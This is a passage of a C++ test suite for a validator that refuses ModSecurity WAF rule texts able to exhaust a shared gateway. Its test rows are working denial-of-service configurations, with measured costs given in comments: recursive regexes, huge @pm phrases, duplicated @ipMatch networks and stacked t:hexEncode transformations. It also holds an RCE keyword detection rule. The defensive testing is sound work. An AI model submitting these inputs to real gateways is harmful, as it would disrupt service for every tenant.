      {R"(SecRule ARGS "@within %{tx.allowed_methods}" "id:1,phase:2,deny")",
       "must not use a macro in @within: the WAF engine searches for the value in the parameter"},
      {R"(SecRule ARGS "@rx a" "id:1,phase:2,deny,chain")"
       "\nSecRule ARGS \"@CONTAINS %{ARGS.a}\" \"t:none\"",
       "must not use a macro in @CONTAINS"},
      {"SecRule ARGS \"@contains " + std::string(1023, 'a') + "bc\" \"id:1,phase:2,deny\"",
       "needs @contains with a parameter of at most 1024 bytes: the WAF engine searches for the "
       "parameter in the value, in time growing with the product of their lengths (line 1)"},
      {"SecRule ARGS \"@within " + std::string(1025, 'w') + "\" \"id:1,phase:2,deny\"",
       "needs @within with a parameter of at most 1024 bytes"},
  };
  for (const auto& b : bad) {
    CAPTURE(b.in);
    expect_bad(fields::waf_directives(b.in), b.why);
  }
  expect_ok(fields::waf_directives("SecRule ARGS \"@contains " + std::string(1024, 'a') +
                                   "\" \"id:1,phase:2,deny\""));
  expect_ok(fields::waf_directives(
      R"(SecRule REQUEST_METHOD "!@within GET HEAD POST OPTIONS" "id:1,phase:1,deny")"));

  // The audit of what the engine built refuses the same, should a macro or more text reach the
  // parameter than the scan saw there.
  waf::ScanResult one_rule;
  one_rule.rules = {{1, {waf::LinkActions{.line = 1, .variables = 1}}}};
  one_rule.directives = 1;
  expect_bad(waf::engine_check("SecRule ARGS \"@strmatch a%{tx.a}\" \"id:1,pass\"", one_rule),
             "must not use a macro in @StrMatch");  // the engine's name for it
  expect_bad(
      waf::engine_check(
          "SecRule ARGS \"@containsWord " + std::string(1025, 'a') + "\" \"id:1,pass\"", one_rule),
      "needs @ContainsWord with a parameter of at most 1024 bytes");
  expect_ok(waf::engine_check("SecRule ARGS \"@streq a%{tx.a}\" \"id:1,pass\"", one_rule));
}

// `one` `n` times, with `separator` between.
std::string repeat(std::string_view one, int n, std::string_view separator = "") {
  std::string out;
  for (int i = 0; i < n; ++i) {
    if (i > 0) out += separator;
    out += one;
  }
  return out;
}

// Each @pm phrase took the engine memory growing with the square of its length: one of 14,000
// bytes took 190 MB in the gateway that loaded it (all four rows were accepted before).
TEST_CASE("waf_directives refuses @pm phrases over 128 bytes, counted as the engine makes them") {
  const std::string at_most(waf::kMaxPmPhraseBytes, 'a');
  const std::string over = at_most + "b";
  auto pm = [](const std::string& param) {
    return "SecRule ARGS \"@pm " + param + "\" \"id:1,phase:2,deny\"";
  };
  const Bad bad[] = {
      {pm(over), "needs @pm with phrases of at most 128 bytes"},
      {pm("short " + over + " words"), "at most 128 bytes"},
      {pm(std::string(14000, 'a')), "at most 128 bytes"},
      // Blanks in a hex block make nothing: 140 bytes of two hex digits each are one phrase.
      {pm("x |" + repeat("ab", 70) + " " + repeat("cd", 70) + "| y"), "at most 128 bytes"},
      // The engine goes on after what it made with as many of the parameter's last characters as
      // it made fewer (pm_phrases): a hex block of 32 bytes before 128 a's makes 162 a's, pipes
      // after a letter one phrase of all of them, and 60 hex blocks of one byte before the a's a
      // phrase of 179 bytes. The three were accepted before; the second took 206 MB to load.
      {pm("|" + std::string(64, 'a') + "| " + at_most), "at most 128 bytes"},
      {pm("b" + std::string(14000, '|')), "at most 128 bytes"},
      {pm(repeat("|ab|", 60) + " " + at_most), "at most 128 bytes"},
      // The engine reads the macro as nothing, so `\:` and a 256-byte phrase (helper 47).
      {pm("\\%{TX.x}: |" + std::string(125, 'z') + "| " + at_most),
       "must not use a macro in @pm: the WAF engine reads its parameter once, when it loads the "
       "rule, with every macro empty"},
  };
  for (const auto& b : bad) {
    CAPTURE(b.in);
    expect_bad(fields::waf_directives(b.in), b.why);
  }
  expect_ok(fields::waf_directives(pm(at_most + " " + at_most + " " + at_most)));
  // After the last phrase, the characters the hex block made fewer are its own.
  expect_ok(fields::waf_directives(pm(at_most + " |" + std::string(64, 'a') + "|")));
  // Hex blocks over 128 bytes of text whose phrases are short, as the engine makes them (both
  // were refused when the text's hex block counted as one phrase): 60 bytes 0xAB then the blocks'
  // last characters, "ab" 39 times and "ab|"; and nothing made ('0' to '9' are no digits to it),
  // so the words as written, "|41", "41" and "41|".
  expect_ok(fields::waf_directives(pm("|" + repeat("ab", 60, " ") + "|")));
  expect_ok(fields::waf_directives(pm("|" + repeat("41", 60, " ") + "|")));
}

// `value` with every byte percent-encoded, for a query string.
std::string percent_encoded(std::string_view value) {
  std::string out;
  for (unsigned char c : value) {
    out += '%';
    out += "0123456789ABCDEF"[c >> 4];
    out += "0123456789ABCDEF"[c & 15];
  }
  return out;
}

// Whether libmodsecurity denies a request whose argument `a` is `value`, by a rule of
// `@pm param` on it: whether `value` holds one of the phrases the engine made of `param`.
bool engine_pm_matches(const std::string& param, std::string_view value) {
  modsecurity::ModSecurity engine;
  modsecurity::RulesSet rules;
  const std::string text =
      "SecRuleEngine On\nSecRule ARGS:a \"@pm " + param + "\" \"id:1,phase:1,deny,status:403\"\n";
  REQUIRE(rules.load(text.c_str()) == 1);
  modsecurity::Transaction tx(&engine, &rules, nullptr);
  tx.processConnection("192.0.2.1", 40000, "192.0.2.2", 80);
  tx.processURI(("/?a=" + percent_encoded(value)).c_str(), "GET", "1.1");
  tx.processRequestHeaders();
  modsecurity::ModSecurityIntervention it;
  modsecurity::intervention::clean(&it);
  tx.intervention(&it);
  modsecurity::intervention::free(&it);
  return it.status == 403;
}

// pm_phrases is the engine's reading, not the parameter's words: for each parameter, the engine
// matches each phrase whole and not the word the parameter shows in its place.
TEST_CASE("pm_phrases are the phrases the WAF engine matches") {
  struct Case {
    std::string param;
    std::vector<std::string> phrases;
    std::string not_a_phrase;  // a word of the parameter the engine does not match
  };
  const Case cases[] = {
      {"xyz abc", {"xyz", "abc"}, "xy"},
      {"|ab| xyz", {"\xab", "xyzxyz"}, "xyz"},
      {"b|||", {"b|||"}, "b"},
      {"ab\\:c", {"ab:cc"}, "ab:c"},
      {"|41|", {"|41|"}, "A"},             // '0' to '9' are no hex digits to it: nothing made
      {"a\\qb c", {"a\\qb", "c"}, "aqb"},  // an escape it does not know: the words as written
      // Blanks in a hex block make nothing; "cd| y" follows what it made.
      {"x |ab cd| y", {"x", "\xab\xcd", "ycd|", "y"}, "cd|"},
      {"|" + repeat("ab", 60, " ") + "|",
       [] {
         std::vector<std::string> phrases{std::string(60, '\xab')};
         phrases.insert(phrases.end(), 39, "ab");
         phrases.emplace_back("ab|");
         return phrases;
       }(),
       "\xab\xab"},
  };
  for (const auto& c : cases) {
    CAPTURE(c.param);
    CHECK(waf::pm_phrases(c.param) == c.phrases);
    for (const auto& phrase : c.phrases) CHECK(engine_pm_matches(c.param, phrase));
    CHECK_FALSE(engine_pm_matches(c.param, c.not_a_phrase));
  }
}

// PCRE2's JIT compile of a recursion into a group took time growing with the number of calls
// times the group's size: 9,285 alternatives of \S(?R) in one @rx took 3 s at every load of the
// text (7 s for a check, which parses it twice when the engine refuses a later line). Every
// refused row was accepted before.
TEST_CASE("waf_directives refuses regexes with more than 64 recursions or subroutine calls") {
  auto alternatives = [](std::string_view one, int n) { return repeat(one, n, "|"); };
  auto rx = [](const std::string& regex) {
    return "SecRule ARGS \"@rx " + regex + "\" \"id:1,phase:2,deny\"";
  };
  const Bad bad[] = {
      {rx(alternatives("\\S(?R)", 65)),
       "needs a regular expression with at most 64 recursions or subroutine calls"},
      {rx(alternatives("\\S(?R)", 9285)), "at most 64 recursions"},
      {rx("(a" + alternatives("b(?1)", 65) + ")"), "at most 64 recursions"},
      {rx("(?<n>a" + alternatives("b(?&n)", 40) + alternatives("c(?P>n)", 25) + ")"),
       "at most 64 recursions"},
      {rx("(a" + alternatives("b(?-1)", 33) + alternatives("b\\g<0>", 16) +
          alternatives("b\\g'1'", 16) + ")"),
       "at most 64 recursions"},
      {rx(alternatives("(?0)", 30) + "|" + alternatives("(c(?+1))(d)", 35)), "at most 64"},
      // In a regex key, compiled at load as well.
      {"SecRule ARGS:/" + repeat("(?:a(?R)?)", 65) + "/ \"@rx a\" \"id:1,phase:2,deny\"",
       "at most 64 recursions"},
  };
  for (const auto& b : bad) {
    CAPTURE(b.in.substr(0, 200));
    expect_bad(fields::waf_directives(b.in), b.why);
  }
  expect_ok(fields::waf_directives(rx(alternatives("\\S(?R)", 64))));
  // Options and conditions are no calls.
  expect_ok(fields::waf_directives(rx(alternatives("(?-i)a(?i)b(?(R)c|d)", 100))));
}

// A repeat copies what it repeats into the compiled regex, calls too, and the count of calls in
// the text missed those (helper 46): one `(?R){21000}` took 3.2 s of JIT compile at every load,
// three were accepted in 7 s; 1,500 rules of `(?:a|b){5000}` (64 KB compiled each) took 100 MB,
// and 3,200 regex keys of `(?:.?){8100}` 210 MB. Every refused row was accepted before.
TEST_CASE("waf_directives bounds what a text's regexes compile to, in all") {
  auto rx = [](const std::string& regex, int id) {
    return "SecRule ARGS \"@rx " + regex + "\" \"id:" + std::to_string(id) + ",phase:2,deny\"\n";
  };
  auto rules = [&](const std::string& regex, int n) {
    std::string text;
    for (int id = 1; id <= n; ++id) text += rx(regex, id);
    return text;
  };
  const Bad bad[] = {
      {rx("(?R){21000}", 1),
       "needs its regular expressions with recursions or subroutine calls to compile to at most "
       "8 KiB in all"},
      {rx("(a(?1)?){3000}", 1), "with recursions or subroutine calls to compile to at most 8 KiB"},
      // 5.5 KB each: the second goes past 8 KiB.
      {rules("(?R){2000}", 2), "makes 21,000) (line 2)"},
      {rules("(?:a|b){5000}", 17),
       "needs its regular expressions to compile to at most 1024 KiB in all, JIT code included"},
      // 62 KB compiled and 3.1 MB of JIT code (helper 47).
      {rx("(*UTF)(*UCP)(?<=" + repeat("\\w", 16) + "){1100}x", 1), "at most 1024 KiB in all"},
      {rules("(?<=" + repeat("\\w", 16) + "){200}x", 8), "at most 1024 KiB in all"},
      {"SecRule " + repeat("ARGS:/(?:.?){8100}/", 17, "|") + " \"@rx a\" \"id:1,phase:2,deny\"",
       "to compile to at most 1024 KiB in all"},
      {"SecRule ARGS \"@rx a\" \"id:1,phase:2,deny\"\nSecRuleUpdateTargetById 1 \"" +
           repeat("ARGS:/(?:.?){8100}/", 17, "|") + "\"",
       "JIT code can take 50 times its size (line 2)"},
  };
  for (const auto& b : bad) {
    CAPTURE(b.in.substr(0, 200));
    expect_bad(fields::waf_directives(b.in), b.why);
  }
  expect_ok(fields::waf_directives(rx("(?R){500}", 1)));
  expect_ok(fields::waf_directives(rules("(?:a|b){5000}", 15)));
}

// The engine allocated a network's list of netmasks anew, one byte longer, at each repeat of the
// network, and never freed the old one: 13,000 repeats of ::/1 took 87 MB and lost as much at
// every load (helper 46). Every refused row was accepted before.
TEST_CASE("waf_directives refuses an @ipMatch that lists a network twice") {
  auto ip = [](const std::string& param) {
    return "SecRule REMOTE_ADDR \"@ipMatch " + param + "\" \"id:1,phase:1,deny\"";
  };
  const Bad bad[] = {
      {ip(repeat("::/1", 13000, ",")),
       "needs @ipMatch to list each address once, masked to its bits, not ::/1 again"},
      {ip("192.0.2.1,198.51.100.7,192.0.2.1"), "not 192.0.2.1 again"},
      // The same network once masked.
      {ip("10.1.2.3/8,10.200.0.0/8"), "not 10.200.0.0/8 again"},
      {ip("2001:db8::1/32,2001:db8:0:ffff::/32"), "not 2001:db8:0:ffff::/32 again"},
      // The engine ignored the second: 10.0.0.0/8 matched only 10.0.0.0/16.
      {ip("10.0.0.0/16,10.0.0.0/8"), "the WAF engine ignores a second netmask for one address"},
      {ip("10.0.0.0/8x"),
       "needs @ipMatch entries as ADDRESS or ADDRESS/BITS (1 to 32, or 1 to 128 for IPv6), not "
       "10.0.0.0/8x"},
      {ip("10.0.0.0/0008"), "as ADDRESS or ADDRESS/BITS"},
      {ip("10.0.0.0/0"), "as ADDRESS or ADDRESS/BITS"},
      // The engine dropped what follows a '#' and a macro, and read these as ::/1 and 192.0.2.1
      // again (helper 47).
      {ip("192.0.2.1,192.0.2.1#"), "not 192.0.2.1#"},
      {ip("::/1," + repeat("::%{TX.a}/1", 100, ",")), "must not use a macro in @ipMatch"},
  };
  for (const auto& b : bad) {
    CAPTURE(b.in.substr(0, 200));
    expect_bad(fields::waf_directives(b.in), b.why);
  }
  expect_ok(fields::waf_directives(
      ip("10.0.0.0/8,10.1.0.0/16,11.0.0.0/8,192.0.2.1,2001:db8::/32,2001:db8::1,2001:db9::/32")));
}

// Each variable took the engine about 1.8 KB: 16,365 `&TX` targets in 64 KB of
// SecRuleUpdateTargetById took 29.7 MB (helper 46). Every refused row was accepted before.
TEST_CASE("waf_directives allows 2000 variables in all, in rules and in updates") {
  auto rule = [](const std::string& variables, int id) {
    return "SecRule " + variables + " \"@rx a\" \"id:" + std::to_string(id) + ",phase:2,deny\"\n";
  };
  const Bad bad[] = {
      {rule(repeat("&TX", 2001, "|"), 1), "may name at most 2000 variables in all"},
      {rule(repeat("&ARGS", 1000, "|"), 1) + rule(repeat("!ARGS:a|&ARGS", 501, "|"), 2),
       "2000 variables in all, in rules and in SecRuleUpdateTargetById (the WAF engine keeps "
       "about 2 KB for each) (line 2)"},
      {rule("ARGS", 1) + "SecRuleUpdateTargetById 1 \"" + repeat("&TX", 2000, "|") + "\"",
       "2000 variables in all"},
  };
  for (const auto& b : bad) {
    CAPTURE(b.in.substr(0, 200));
    expect_bad(fields::waf_directives(b.in), b.why);
  }
  expect_ok(fields::waf_directives(rule(repeat("&ARGS", 1000, "|"), 1) +
                                   rule(repeat("&TX", 999, "|"), 2) +
                                   "SecRuleUpdateTargetById 1 \"&TX\""));
}

// Each macro took the engine about 1.07 KB: 9,356 in one msg took 10 MB (helper 47). Each refused
// row was accepted before.
TEST_CASE("waf_directives allows 2000 macros in all") {
  // Macros in comment lines count too (msg and logdata hold at most 256 in all).
  auto rule = [](const std::string& comment, int id) {
    return "# " + comment + "\nSecRule ARGS \"@streq %{TX.a}\" \"id:" + std::to_string(id) +
           ",phase:2,deny\"\n";
  };
  const Bad bad[] = {
      {rule(repeat("%{TX.a}", 9000), 1), "may hold at most 2000 macros (%{...}) in all"},
      {rule(repeat("%{TX.a}", 1000), 1) + rule(repeat("%{MATCHED_VAR}", 999), 2),
       "at most 2000 macros (%{...}) in all: the WAF engine keeps about 1 KB for each (line 4)"},
  };
  for (const auto& b : bad) {
    CAPTURE(b.in.substr(0, 200));
    expect_bad(fields::waf_directives(b.in), b.why);
  }
  expect_ok(
      fields::waf_directives(rule(repeat("%{TX.a}", 998), 1) + rule(repeat("%{TX.b}", 998), 2)));
}

// The engine dropped a rule's msg, logdata or severity for the next one without freeing it:
// 10,916 msg:a in one rule lost 3 MB at every load (helper 47). Each refused row was accepted
// before.
TEST_CASE("waf_directives allows one msg, logdata and severity in a rule") {
  auto rule = [](const std::string& actions) {
    return "SecRule ARGS \"@rx a\" \"id:1,phase:2,deny," + actions + "\"";
  };
  const Bad bad[] = {
      {rule(repeat("msg:a", 10916, ",")), "may give msg once in a rule"},
      {rule("msg:'%{TX.a}',logdata:x,msg:a"), "may give msg once in a rule"},
      {rule("logdata:a,LOGDATA:b"), "may give logdata once in a rule"},
      {rule("severity:2,severity:CRITICAL"), "may give severity once in a rule"},
  };
  for (const auto& b : bad) {
    CAPTURE(b.in.substr(0, 200));
    expect_bad(fields::waf_directives(b.in), b.why);
  }
  expect_ok(fields::waf_directives(rule("msg:a,logdata:b,severity:2,tag:c,tag:d,chain") +
                                   "\nSecRule ARGS \"@rx b\" \"msg:e,logdata:f\""));
}

// t:hexEncode doubles a value's length, and the engine applies a rule's transformations in turn:
// 27 of them on any request took 17.8 s and 2 GB, 32 ended the process (std::bad_alloc), in the
// gateway every tenant shares. Each refused row was accepted before.
TEST_CASE("waf_directives allows two transformations that lengthen a value in a rule") {
  auto rule = [](const std::string& t) {
    return "SecRule REQUEST_METHOD \"@unconditionalMatch\" \"id:1,phase:1,pass,nolog,t:none," + t +
           "\"";
  };
  const Bad bad[] = {
      {rule(repeat("t:hexEncode", 27, ",")), "may use at most 2 of t:hexEncode, t:urlEncode"},
      {rule("t:hexEncode,t:lowercase,t:HEXENCODE,t:hexEncode"), "at most 2"},
      {rule("t:base64Encode,t:urlEncode,t:utf8toUnicode"), "at most 2"},
      {"SecRule ARGS \"@rx a\" \"id:1,phase:2,pass\"\nSecRuleUpdateActionById 1 \"t:hexEncode\"",
       "must not add t:hexEncode with SecRuleUpdateActionById"},
  };
  for (const auto& b : bad) {
    CAPTURE(b.in);
    expect_bad(fields::waf_directives(b.in), b.why);
  }
  expect_ok(fields::waf_directives(rule("t:hexEncode,t:urlEncode,t:lowercase,t:md5")));
  // Each link of a chain has transformations of its own.
  expect_ok(fields::waf_directives(
      "SecRule ARGS \"@rx a\" \"id:1,phase:2,pass,chain,t:hexEncode,t:hexEncode\"\n"
      "SecRule ARGS \"@rx b\" \"t:hexEncode,t:hexEncode\""));
  expect_ok(fields::waf_directives(
      "SecRule ARGS \"@rx a\" \"id:1,phase:2,pass\"\nSecRuleUpdateActionById 1 \"t:lowercase\""));
}

// The engine transforms a value once per transformation for every variable of a rule that holds
// it: ARGS named 2,000 times with 4,500 transformations took 22 s of a gateway's CPU on one
// 100-byte argument (helper 90), and a rule's cost grows faster than its transformations (helper
// 92). Each refused row was accepted before.
TEST_CASE("waf_directives allows 32 transformations in a rule and 1000 of a value in all") {
  auto rule = [](const std::string& variables, size_t transformations, int id) {
    return "SecRule " + variables + " \"@rx a\" \"id:" + std::to_string(id) + ",phase:2,pass" +
           (transformations == 0
                ? ""
                : "," + repeat("t:lowercase", static_cast<int>(transformations), ",")) +
           "\"\n";
  };
  auto update_actions = [](int id, size_t transformations) {
    return "SecRuleUpdateActionById " + std::to_string(id) + " \"" +
           repeat("t:lowercase", static_cast<int>(transformations), ",") + "\"\n";
  };
  auto update_targets = [](int id, size_t variables) {
    return "SecRuleUpdateTargetById " + std::to_string(id) + " \"" +
           repeat("ARGS_NAMES", static_cast<int>(variables), "|") + "\"\n";
  };
  const Bad bad[] = {
      {rule("ARGS", 33, 1),
       "may apply at most 32 transformations in a rule (each link of a chain): the WAF engine's "
       "cost of a rule grows faster than their number (line 1)"},
      {"SecRule ARGS \"@rx a\" \"id:1,phase:2,pass,chain\"\nSecRule ARGS \"@rx b\" \"" +
           repeat("t:none", 33, ",") + "\"",
       "at most 32 transformations in a rule (each link of a chain)"},
      {rule("ARGS", 0, 1) + update_actions(1, 20) + update_actions(1, 13),
       "may add at most 32 transformations with SecRuleUpdateActionById in all (they may all go "
       "to one rule) (line 3)"},
      {rule("ARGS", 0, 1) + update_actions(1, 40),
       "may add at most 32 transformations with SecRuleUpdateActionById in all"},
      {rule(repeat("&ARGS", 1001, "|"), 1, 1),
       "may apply at most 1000 transformations to a value in all (each rule's variables times "
       "its t: actions, summed over the rules): the WAF engine runs them for every variable of a "
       "rule that holds the value (line 1)"},
      {rule(repeat("ARGS", 100, "|"), 8, 1) + rule(repeat("ARGS", 100, "|"), 2, 2) +
           rule("ARGS|ARGS_NAMES", 1, 3),
       "at most 1000 transformations to a value in all (each rule's variables times its t: "
       "actions, summed over the rules): the WAF engine runs them for every variable of a rule "
       "that holds the value (line 3)"},
      // Each link of a chain counts.
      {"SecRule " + repeat("ARGS", 20, "|") + " \"@rx a\" \"id:1,phase:2,pass,chain," +
           repeat("t:lowercase", 25, ",") + "\"\nSecRule " + repeat("ARGS", 17, "|") +
           " \"@rx b\" \"" + repeat("t:lowercase", 30, ",") + "\"",
       "at most 1000 transformations"},
      // An update's transformations as if every rule had the most variables of one, its targets
      // as if every rule had the most transformations of one, and both as if added to one rule.
      {rule(repeat("ARGS", 100, "|"), 0, 1) + update_actions(1, 11),
       "at most 1000 transformations to a value in all (each rule's variables times its t: "
       "actions, summed over the rules): the WAF engine runs them for every variable of a rule "
       "that holds the value (line 2)"},
      {rule("ARGS", 25, 1) + update_targets(1, 40), "at most 1000 transformations"},
      {rule("ARGS", 1, 1) + update_targets(1, 40) + update_actions(1, 24),
       "at most 1000 transformations to a value in all"},
  };
  for (const auto& b : bad) {
    CAPTURE(b.in.substr(0, 200));
    expect_bad(fields::waf_directives(b.in), b.why);
  }
  expect_ok(fields::waf_directives(rule("ARGS", 32, 1)));
  expect_ok(fields::waf_directives(rule(repeat("ARGS", 100, "|"), 8, 1) +
                                   rule(repeat("ARGS", 100, "|"), 2, 2) + rule("ARGS", 0, 3)));
  expect_ok(fields::waf_directives(rule(repeat("ARGS", 100, "|"), 0, 1) + update_actions(1, 10)));
  expect_ok(fields::waf_directives(rule("ARGS", 25, 1) + update_targets(1, 39)));
  expect_ok(
      fields::waf_directives(rule("ARGS", 1, 1) + update_targets(1, 40) + update_actions(1, 20)));
}

// A rule that lengthens values and reads another rule's output lengthens it again: 13 rules of
// two t:hexEncode, each on the last one's capture (TX:0), took 12.7 s and 2.3 GB on every request,
// and 14 ended the engine with std::bad_alloc (helper 95). Each refused row was accepted before.
TEST_CASE("waf_directives refuses lengthening another rule's output") {
  const std::string capture =
      "SecRule REQUEST_METHOD \"@rx ^(.*)$\" \"id:1,phase:1,pass,nolog,capture\"\n";
  auto rule = [](const std::string& variables, const std::string& t, int id) {
    return "SecRule " + variables + " \"@rx ^(.*)$\" \"id:" + std::to_string(id) +
           ",phase:1,pass,nolog,capture," + t + "\"\n";
  };
  const Bad bad[] = {
      {capture + rule("TX:0", "t:hexEncode,t:hexEncode", 2),
       "must not apply t:hexEncode, t:urlEncode, t:utf8toUnicode or t:base64Encode to TX, "
       "MATCHED_VAR, MATCHED_VARS, their names or RULE: each such rule could lengthen another "
       "rule's output again, and a few rules make every request's values exponentially long "
       "(line 2)"},
      // RULE:logdata and RULE:msg are the rule's own, their macros expanded (helper 96: 13 such
      // rules with logdata:'%{TX.0}' took 11.6 s and 1.7 GB on a 6-byte body); RULE is read by
      // other keys only since (helper 100).
      {capture + rule("RULE:id", "t:hexEncode,t:hexEncode,logdata:'%{TX.0}'", 2),
       "must not apply t:hexEncode"},
      {capture + rule("ARGS|MATCHED_VAR", "t:urlEncode", 2), "must not apply t:hexEncode"},
      {capture + rule("matched_vars:/a/", "t:utf8toUnicode", 2), "must not apply t:hexEncode"},
      {capture + rule("MATCHED_VARS_NAMES", "t:base64Encode", 2), "must not apply t:hexEncode"},
      {capture + rule("MATCHED_VAR_NAME", "t:base64Encode", 2), "must not apply t:hexEncode"},
      {capture + rule("ARGS", "t:none,chain", 2) + "SecRule TX \"@rx a\" \"t:hexEncode\"",
       "must not apply t:hexEncode"},
      // The scan does not know which rule an update changes.
      {capture + rule("ARGS", "t:hexEncode", 2) + "SecRuleUpdateTargetById 2 \"TX:0\"",
       "must not add TX, MATCHED_VAR, MATCHED_VARS, their names or RULE with "
       "SecRuleUpdateTargetById to a text whose rules use t:hexEncode, t:urlEncode, "
       "t:utf8toUnicode or t:base64Encode: a rule could lengthen another rule's output again "
       "(line 3)"},
      {capture + rule("ARGS:zz", "t:hexEncode,logdata:'%{TX.0}'", 2) +
           "SecRuleUpdateTargetById 2 \"RULE:rev\"",
       "must not add TX, MATCHED_VAR, MATCHED_VARS, their names or RULE"},
      {"SecRuleUpdateTargetById 2 \"MATCHED_VAR\"\n" + capture + rule("ARGS", "t:hexEncode", 2),
       "(line 1)"},
  };
  for (const auto& b : bad) {
    CAPTURE(b.in);
    expect_bad(fields::waf_directives(b.in), b.why);
  }
  expect_ok(fields::waf_directives(capture + rule("TX:0", "t:lowercase", 2)));
  expect_ok(fields::waf_directives(capture + rule("RULE:id", "logdata:'%{TX.0}'", 2)));
  expect_ok(fields::waf_directives(capture + rule("ARGS|!TX:0|&TX", "t:hexEncode,t:hexEncode", 2)));
  expect_ok(fields::waf_directives(capture + rule("ARGS", "t:hexEncode", 2) +
                                   "SecRuleUpdateTargetById 2 \"!TX:0|ARGS_NAMES\""));
  expect_ok(fields::waf_directives(capture + rule("ARGS", "t:lowercase", 2) +
                                   "SecRuleUpdateTargetById 2 \"TX:0\""));
}

// Each entry of the request's list of matches (MATCHED_VARS) and of TX costs the engine more than
// the one before: one rule of ARGS named 1,990 times took 118 s on 100 arguments (helper 100),
// one of ARGS and 20 MATCHED_VARS, which doubles the list at each, 70 s on one argument (helper
// 98), and a setvar named by a counter on ARGS named 1,000 times 51 s (helper 100).
TEST_CASE("waf_directives adds at most 500 entries for each argument to the matches and TX") {
  auto rule = [](const std::string& variables, int id, const std::string& more = "") {
    return "SecRule " + variables + " \"@rx .\" \"id:" + std::to_string(id) +
           ",phase:2,pass,nolog" + more + "\"\n";
  };
  const std::string why =
      "may add at most 500 entries for each argument of a request to its list of matches and to "
      "TX, in all (each variable of a rule one, a reading of MATCHED_VARS or MATCHED_VARS_NAMES "
      "as many as the list holds then, of TX whole as many as TX holds, a setvar one, and one "
      "named by a macro one for each match of its rule): the WAF engine's cost of each entry "
      "grows with the entries before it";
  const Bad bad[] = {
      {rule(repeat("ARGS", 501, "|"), 1), why + " (line 1)"},
      {rule(repeat("ARGS", 300, "|"), 1) + rule(repeat("ARGS_NAMES", 201, "|"), 2),
       why + " (line 2)"},
      // The list doubles at each reading.
      {rule("ARGS|" + repeat("MATCHED_VARS", 9, "|"), 1), why + " (line 1)"},
      // 2 to the 64th is 0 in a size_t: a count that doubles must not wrap.
      {rule("ARGS|" + repeat("MATCHED_VARS", 64, "|"), 1), why + " (line 1)"},
      {rule("ARGS|" + repeat("MATCHED_VARS", 200, "|"), 1), why + " (line 1)"},
      {rule(repeat("ARGS", 63, "|"), 1) + rule("MATCHED_VARS", 2) + rule("MATCHED_VARS_NAMES", 3) +
           rule("MATCHED_VARS:a", 4),
       why + " (line 4)"},
      {rule("ARGS", 1, ",chain") + "  SecRule MATCHED_VARS|MATCHED_VARS \"@rx .\" \"t:none\"\n" +
           rule(repeat("ARGS", 130, "|"), 2, ",chain") +
           "  SecRule MATCHED_VARS|MATCHED_VARS_NAMES \"@rx .\" \"t:none\"\n",
       why + " (line 4)"},
      // TX read whole holds what setvars set: one named by a macro one for each match.
      {rule(repeat("ARGS", 200, "|"), 1, ",setvar:tx.n=+1,setvar:'tx.v%{tx.n}=1'") +
           rule("TX|TX", 2),
       why + " (line 2)"},
      {rule(repeat("ARGS", 251, "|"), 1, ",setvar:tx.v%{MATCHED_VAR_NAME}=1"), why + " (line 1)"},
      // Updates count as if they all went to the rule of the most matches, at the end.
      {rule(repeat("ARGS", 300, "|"), 1) + "SecRuleUpdateTargetById 1 \"MATCHED_VARS\"\n",
       why + " (line 2)"},
      {"SecRuleUpdateTargetById 1 \"MATCHED_VARS\"\n" + rule(repeat("ARGS", 251, "|"), 1),
       why + " (line 2)"},
      {rule(repeat("ARGS", 200, "|"), 1) + rule("ARGS", 2, ",setvar:tx.v%{MATCHED_VAR_NAME}=1") +
           "SecRuleUpdateActionById 1 \"setvar:tx.w%{MATCHED_VAR_NAME}=1\"\n" +
           "SecRuleUpdateTargetById 2 \"" + repeat("ARGS_NAMES", 100, "|") + "\"\n",
       why + " (line 4)"},
  };
  for (const auto& b : bad) {
    CAPTURE(b.in.substr(0, 300));
    expect_bad(fields::waf_directives(b.in), b.why);
  }
  expect_ok(fields::waf_directives(rule(repeat("ARGS", 500, "|"), 1)));
  // Exclusions and counts add none; five Core Rule Set-style chains reading the list (helper 100:
  // refused by a bound of four readings).
  expect_ok(
      fields::waf_directives(rule(repeat("ARGS", 200, "|") + "|&MATCHED_VARS|!MATCHED_VARS:a", 1) +
                             rule(repeat("ARGS", 200, "|"), 2)));
  std::string chains;
  for (int id = 1; id <= 5; ++id) {
    chains += rule("ARGS", id, ",chain") +
              "  SecRule MATCHED_VARS \"@rx (?:runtime|processbuilder)\" "
              "\"t:none,t:lowercase,setvar:'tx.rce_score=+%{tx.critical_anomaly_score}'\"\n";
  }
  expect_ok(fields::waf_directives(chains));
  expect_ok(fields::waf_directives(rule(repeat("ARGS", 62, "|"), 1) + rule("MATCHED_VARS", 2) +
                                   rule("MATCHED_VARS_NAMES", 3) + rule("MATCHED_VARS:a", 4)));
  expect_ok(fields::waf_directives(rule(repeat("ARGS", 249, "|"), 1) +
                                   "SecRuleUpdateTargetById 1 \"MATCHED_VARS\"\n"));
}

// Helper 101 found each of these accepted, costing a shared gateway seconds to minutes or hundreds
// of megabytes per request (libmodsecurity 3.0.9): every refused row below was accepted before.
TEST_CASE("waf_directives bounds the runs of setvars that copy a macro") {
  auto rule = [](const std::string& variables, int id, const std::string& more = "") {
    return "SecRule " + variables + " \"@rx .\" \"id:" + std::to_string(id) +
           ",phase:2,pass,nolog" + more + "\"\n";
  };
  const std::string why =
      "may run setvars whose value holds a macro (but sums, =+ and =-) at most 2 times for each "
      "argument of a request, in all (a setvar runs once for each variable of its rule, but one "
      "of a single value such as REQUEST_FILENAME, and for a reading of MATCHED_VARS as many "
      "times as the list holds): each run copies the value, and one that appends to a variable "
      "copies all that was appended before";
  const std::string growing =
      "may append at most 64 bytes for each argument of a request through setvars that copy TX "
      "(but a capture, TX.0 to TX.9), in all (each such setvar's text outside macros, times its "
      "rule's runs for each argument): each run copies all that the runs before it appended";
  const std::string request =
      "may run setvars whose value holds a macro (but sums, =+ and =-) at most 32 times a "
      "request for variables of one value (such as REQUEST_FILENAME, each time a rule names one) "
      "and in SecActions, in all";
  const Bad bad[] = {
      // 2,000 bytes appended in a rule of ARGS named 30 times: 8.2 s on 100 arguments (helper
      // 101); named twice, 4.0 s on 1,000 cookies (helper 105).
      {rule(repeat("ARGS", 30, "|"), 1, ",setvar:tx.a=%{tx.a}" + std::string(100, 'A')),
       growing + " (line 1)"},
      {rule("REQUEST_COOKIES|REQUEST_COOKIES", 1, ",setvar:tx.a=%{tx.a}" + std::string(33, 'y')),
       growing + " (line 1)"},
      {rule("ARGS", 1, ",setvar:tx.a=%{tx.b}" + std::string(40, 'x')) +
